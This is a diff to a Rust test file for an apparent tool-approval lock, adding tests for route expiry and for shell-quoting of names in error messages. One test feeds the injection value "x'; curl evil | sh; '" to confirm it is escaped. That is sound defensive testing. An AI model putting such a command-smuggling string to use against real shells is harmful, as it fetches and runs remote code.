@@ -2,6 +2,7 @@
 
 use std::collections::{BTreeMap, HashMap};
 use std::path::PathBuf;
+use std::time::{Duration, Instant};
 
 use lock::{Entry, Identity, Lock, Surface};
 use serde_json::{Value, json};
@@ -72,12 +73,46 @@ fn routes_that_are_kept_restore_nothing_that_is_withheld() {
     assert_eq!((before.routes.len(), before.withheld.len()), (2, 1));
     // Another upstream is missing; of this one, `a` changed, and `b` is gone.
     let mut after = merged(&locks, &json!([{ "name": "a", "title": "A" }, { "name": "c" }]));
-    after.keep_routes(&before, |index| index == 1);
+    after.keep_routes(&before, |index| index == 1, None);
     assert!(!after.routes.contains_key("a") && !after.routes.contains_key("b") && after.routes.contains_key("c"));
     assert!(after.withheld.contains_key("a") && !after.withheld.contains_key("c"));
     // This one is missing: what was said of it before holds.
     let mut after = Merged::default();
-    after.keep_routes(&before, |index| index == 0);
+    after.keep_routes(&before, |index| index == 0, None);
     assert!(after.routes.contains_key("a") && after.routes.contains_key("b"));
     assert!(after.withheld.contains_key("c") && !after.routes.contains_key("c"));
+}
+
+#[test]
+fn an_error_names_what_the_lock_or_the_client_named_and_is_quoted_for_a_shell() {
+    let error = |cause: &Cause, there: Option<&str>| cause.error(List::Tools, "a", ("x", there));
+    let said = |error: &net::service::RpcError| format!("{} {}", error.message, json!(error.data));
+    let quoted = error(&Cause::Unapproved, Some("x'; curl evil | sh; '"));
+    assert!(quoted.message.ends_with(r"`proof lock --approve 'tool x'\''; curl evil | sh; '\'''`"), "{quoted:?}");
+    let unnamed = said(&error(&Cause::Unapproved, None));
+    assert!(unnamed.contains("proof lock --check") && !unnamed.contains("\"item\""), "{unnamed}");
+    for cause in [Cause::Repeated, Cause::Unreadable, Cause::Gone, Cause::Unlocked, Cause::Spelling] {
+        let said = said(&error(&cause, Some("x")));
+        assert!(!said.contains("--approve"), "no approval helps: {cause:?}: {said}");
+    }
+}
+
+#[test]
+fn routes_of_a_judged_upstream_end_with_its_last_verdict() {
+    let locks = locks(json!([{ "name": "a" }]));
+    let mut before = merged(&locks, &json!([{ "name": "a" }]));
+    let now = Instant::now();
+    let later = now + Duration::from_mins(5);
+    for (until, latest, stays) in
+        [(later, None, true), (now, None, false), (later, Some(now), false), (now, Some(later), false)]
+    {
+        before.judged.get_mut(&0).expect("judged").until = Some(until);
+        let mut after = Merged::default();
+        after.keep_routes(&before, |index| index == 0, latest);
+        assert_eq!(after.routes.contains_key("a"), stays);
+        // Nor does it begin to count again with the next list.
+        let mut next = Merged::default();
+        next.keep_routes(&after, |index| index == 0, None);
+        assert_eq!(next.routes.contains_key("a"), stays);
+    }
 }
